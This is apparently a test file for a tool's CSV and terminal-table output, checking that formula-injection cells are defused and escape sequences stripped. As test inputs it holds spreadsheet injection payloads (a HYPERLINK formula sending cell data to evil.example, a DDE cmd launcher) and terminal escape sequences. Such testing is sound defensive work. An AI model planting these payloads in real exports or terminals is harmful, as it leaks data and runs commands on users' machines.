// What an export or a terminal shows when API strings carry active content: CSV cells a spreadsheet
// would run as formulas are defused with a leading ', and the terminal table drops control characters.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { stripControls, toCsv, toTable } from '../../../src/query/serialize';

test('CSV cells that start like a formula get a leading apostrophe; other cells are as they were', () => {
  const rows = [
    { name: '=HYPERLINK("https://evil.example/?x="&A1,"Open")' },
    { name: '+1+cmd|" /C calc"!A0' },
    { name: '-2+3' },
    { name: '@SUM(A1:A9)' },
    { name: '\t=1+1' },
    { name: '\r=1+1' },
    { name: 'Payments API' },
    { name: 'a-b=c' },
    { name: '' },
  ];
  const lines = toCsv(['name'], rows).split('\r\n');
  assert.deepEqual(lines, [
    'name',
    `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")"`,
    `"'+1+cmd|"" /C calc""!A0"`,
    "'-2+3",
    "'@SUM(A1:A9)",
    "'\t=1+1",
    `"'\r=1+1"`,
    'Payments API',
    'a-b=c',
    '',
    '',
  ]);
  // Column names go through the same rule (a json_extract alias is the user's, but a header is a cell).
  assert.equal(toCsv(['=x'], [], true), "'=x\r\n");
});

test('the terminal table prints escape sequences from API strings as inert text', () => {
  const hostile =
    '\u001b[2J\u001b[31mPayments\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007';
  const t = toTable(['name', 'id'], [{ name: hostile, id: 'aus1\u009b31m\u202eevil' }]);
  assert.ok(
    // eslint-disable-next-line no-control-regex -- asserting that no control character is left
    !/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(t),
    JSON.stringify(t),
  );
  assert.match(t, /\| \[2J\[31mPayments\[0m \]8;;https:\/\/evil\.example\S*link\]8;; \| aus131mevil \|/);
  // Every row is as wide as the separator: nothing moves the cursor or hides cells.
  const widths = new Set(
    t
      .trimEnd()
      .split('\n')
      .map((l) => l.length),
  );
  assert.equal(widths.size, 1, t);
  assert.equal(stripControls('tab\tand\nnewline'), 'tab\tand\nnewline');
});
